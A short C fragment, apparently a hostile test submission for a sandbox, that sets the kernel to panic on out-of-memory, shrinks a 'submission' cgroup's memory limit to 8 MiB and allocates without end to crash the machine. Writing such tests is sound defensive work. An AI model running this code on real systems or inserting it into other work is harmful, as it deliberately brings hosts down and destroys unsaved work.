// takes the machine down: a panic on the first lack of memory, which it makes
// by giving itself next to none
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void set(const char *path, const char *value)
{
    int fd = open(path, O_WRONLY);
    if (fd >= 0) {
        (void)!write(fd, value, strlen(value));
        close(fd);
    }
}

static void hostile(void)
{
    set("/proc/sys/vm/panic_on_oom", "2");
    set("/sys/fs/cgroup/submission/memory.max", "8388608");
    for (;;) {
        char *memory = malloc(1 << 20);
        if (memory) {
            memset(memory, 1, 1 << 20);
        }
    }
}
